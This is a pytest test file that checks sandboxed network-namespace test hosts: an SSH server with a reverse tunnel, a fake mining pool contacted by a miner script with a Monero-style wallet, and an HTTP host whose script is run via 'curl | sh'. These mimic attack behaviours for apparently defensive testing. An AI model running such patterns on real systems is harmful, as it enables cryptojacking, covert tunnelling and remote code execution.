"""The test hosts themselves work, seen from the inside namespace, and leave nothing behind."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from tests.e2e.testhosts import (
    MINER_SCRIPT,
    PYTHON,
    HttpHost,
    MiningPool,
    NetNS,
    SshServer,
    install_miner,
    listening,
    make_testnet,
    netns_pids,
    run_http_host,
    run_mining_pool,
    run_sshd,
    service,
    wait_not_listening,
)

WALLET = (  # the shape of a Monero address
    "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
)


def run(argv: list[str], timeout: float = 20) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout, check=False)


def namespaces() -> set[str]:
    out = run(["ip", "netns", "list"]).stdout
    return {line.split()[0] for line in out.splitlines() if line.strip()}


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_topology_routes_only_between_the_namespaces(testnet: NetNS) -> None:
    assert {testnet.inside, testnet.outside} <= namespaces()
    inside_routes = run(["ip", "-n", testnet.inside, "-4", "route", "show"]).stdout
    assert "default" not in inside_routes
    assert "203.0.113.0/24 via 198.51.100.1" in inside_routes
    assert "default" not in run(["ip", "-n", testnet.outside, "-4", "route", "show"]).stdout
    outside_addrs = run(["ip", "-n", testnet.outside, "-4", "-o", "addr", "show"]).stdout
    for addr in (testnet.outside_addr, testnet.far_addr, *testnet.probe_addrs):
        assert f" {addr}/24 " in outside_addrs
    assert (
        f" {testnet.inside_addr}/24 "
        in run(["ip", "-n", testnet.inside, "-4", "-o", "addr", "show"]).stdout
    )


def test_ssh_runs_a_command_on_both_addresses(testnet: NetNS, sshd: SshServer) -> None:
    ssh = sshd.client_argv()
    first = run(testnet.in_inside(*ssh, sshd.destination, "true"))
    assert first.returncode == 0, first.stderr + sshd.log_text()
    second = run(
        testnet.in_inside(*ssh, "-p", str(sshd.alt_port), sshd.alt_destination, "echo", "hello")
    )
    assert (second.returncode, second.stdout) == (0, "hello\n"), second.stderr
    accepted = [ln for ln in sshd.log_text().splitlines() if "Accepted publickey for root" in ln]
    assert len(accepted) == 2
    assert all(f"from {testnet.inside_addr} " in ln for ln in accepted)


def test_ssh_reverse_tunnel_is_established_and_torn_down(
    testnet: NetNS, sshd: SshServer, tmp_path: Path
) -> None:
    # something on the inside's 127.0.0.1:8000 for the tunnel to reach
    (tmp_path / "www").mkdir()
    (tmp_path / "www" / "through.txt").write_text("through the tunnel\n")
    argv = [
        PYTHON,
        "-m",
        "http.server",
        "--bind",
        "127.0.0.1",
        "8000",
        "--directory",
        str(tmp_path / "www"),
    ]
    with service(testnet.inside, argv, tmp_path / "local.log", [("127.0.0.1", 8000)]):
        # -f: ssh goes to the background once the forwarding is set up (ExitOnForwardFailure
        # makes it wait for the server's answer); it leaves the caller's pipes alone.
        tunnel = run(
            testnet.in_inside(
                *sshd.client_argv(),
                "-N",
                "-f",
                "-o",
                "ExitOnForwardFailure=yes",
                "-R",
                "18080:127.0.0.1:8000",
                sshd.destination,
            )
        )
        assert tunnel.returncode == 0, tunnel.stderr + sshd.log_text()
        forwarded = {ep for ep in listening(testnet.outside) if ep[1] == 18080}
        # GatewayPorts no: sshd binds the forwarded port on loopback only (both families)
        assert ("127.0.0.1", 18080) in forwarded
        assert {addr for addr, _ in forwarded} <= {"127.0.0.1", "::1"}
        fetched = run(
            testnet.in_outside(
                "curl", "-fsS", "--max-time", "5", "http://127.0.0.1:18080/through.txt"
            )
        )
        assert fetched.stdout == "through the tunnel\n", fetched.stderr
        ssh_pids = [
            p
            for p in netns_pids(testnet.inside)
            if Path(f"/proc/{p}/cmdline").read_bytes().startswith(b"ssh\0")
        ]
        assert len(ssh_pids) == 1
        os.kill(ssh_pids[0], signal.SIGTERM)
        wait_not_listening(testnet.outside, ("127.0.0.1", 18080))


def test_miner_logs_in_by_flags(testnet: NetNS, mining_pool: MiningPool) -> None:
    miner = run(
        testnet.in_inside(
            PYTHON,
            str(MINER_SCRIPT),
            "-o",
            mining_pool.url,
            "-u",
            WALLET,
            "-p",
            "x",
            "--donate-level=0",
            "--cpu-priority=0",
        )
    )
    assert miner.returncode == 0, miner.stderr
    assert f"logged in to 198.51.100.1:3333 as {WALLET}" in miner.stdout
    assert mining_pool.wallets() == [WALLET]
    (rec,) = mining_pool.requests()
    assert rec["peer"].startswith(f"{testnet.inside_addr}:")
    assert rec["request"]["method"] == "login"
    assert rec["request"]["params"]["pass"] == "x"  # noqa: S105 - what xmrig sends


def test_renamed_miner_logs_in_by_config_file(
    testnet: NetNS, mining_pool: MiningPool, tmp_path: Path
) -> None:
    config = tmp_path / "config.json"
    config.write_text(
        json.dumps({"pools": [{"url": mining_pool.url, "user": WALLET, "pass": "x"}]})
    )
    miner = install_miner(tmp_path / ".cache" / "x")
    result = run(testnet.in_inside(str(miner), "-c", str(config)))
    assert result.returncode == 0, result.stderr
    assert mining_pool.wallets() == [WALLET]


def test_miner_speaks_stratum_v1_too(testnet: NetNS, mining_pool: MiningPool) -> None:
    result = run(
        testnet.in_inside(
            PYTHON,
            str(MINER_SCRIPT),
            "--proto",
            "stratum1",
            "-o",
            mining_pool.url,
            "-u",
            "worker.1",
        )
    )
    assert result.returncode == 0, result.stderr
    methods = [r["request"]["method"] for r in mining_pool.requests()]
    assert methods == ["mining.subscribe", "mining.authorize"]
    assert mining_pool.wallets() == ["worker.1"]


def test_miner_fails_without_a_pool(testnet: NetNS) -> None:
    result = run(
        testnet.in_inside(
            PYTHON, str(MINER_SCRIPT), "-o", "stratum+tcp://198.51.100.1:3333", "-u", WALLET
        )
    )
    assert result.returncode == 1
    assert "Connection refused" in result.stderr


def test_curl_pipe_sh_runs_the_served_script(
    testnet: NetNS, http_host: HttpHost, tmp_path: Path
) -> None:
    marker = tmp_path / "installed"
    url = http_host.put("install.sh", f"echo installing\ntouch {marker}\n")
    result = run(testnet.in_inside("sh", "-c", f"curl -fsS {url} | sh"))
    assert (result.returncode, result.stdout) == (0, "installing\n"), result.stderr
    assert marker.exists()
    (req,) = http_host.requests()
    assert (req["client"], req["method"], req["path"], req["status"]) == (
        testnet.inside_addr,
        "GET",
        "/install.sh",
        200,
    )
    assert req["user_agent"].startswith("curl/")


PROBE = """
import errno, json, socket, sys, time
out = []
for addr in sys.argv[1:]:
    s = socket.socket()
    s.settimeout(3)
    t = time.monotonic()
    try:
        s.connect((addr, 80))
        err = 0
    except OSError as exc:
        err = exc.errno
    out.append([addr, errno.errorcode.get(err, str(err)), time.monotonic() - t])
    s.close()
print(json.dumps(out))
"""


def test_probe_addresses_refuse_at_once(testnet: NetNS) -> None:
    result = run(testnet.in_inside(PYTHON, "-c", PROBE, *testnet.probe_addrs))
    assert result.returncode == 0, result.stderr
    outcomes = json.loads(result.stdout)
    assert [(a, e) for a, e, _ in outcomes] == [(a, "ECONNREFUSED") for a in testnet.probe_addrs]
    assert max(t for _, _, t in outcomes) < 0.5


def test_everything_is_cleaned_up_even_when_the_body_fails() -> None:
    names: list[str] = []
    pids: list[int] = []
    dirs: list[Path] = []
    strays: list[subprocess.Popen[bytes]] = []
    with pytest.raises(RuntimeError, match="deliberate"), make_testnet() as net:
        names += [net.inside, net.outside]
        with run_sshd(net) as s, run_mining_pool(net) as p, run_http_host(net) as h:
            pids += [s.pid, p.pid, h.pid]
            dirs += [s.dir, p.dir, h.dir]
            # processes left behind in both namespaces, like a backgrounded `ssh -f`
            strays += [
                subprocess.Popen(net.in_inside("sleep", "60")),
                subprocess.Popen(net.in_outside("sleep", "60")),
            ]
            time.sleep(0.05)
            raise RuntimeError("deliberate")
    assert len(names) == 2
    assert not set(names) & namespaces()
    assert len(pids) == 3
    assert not [pid for pid in pids if alive(pid)]
    assert not [d for d in dirs if d.exists()]
    assert [p.wait(timeout=5) for p in strays] == [-signal.SIGKILL, -signal.SIGKILL]
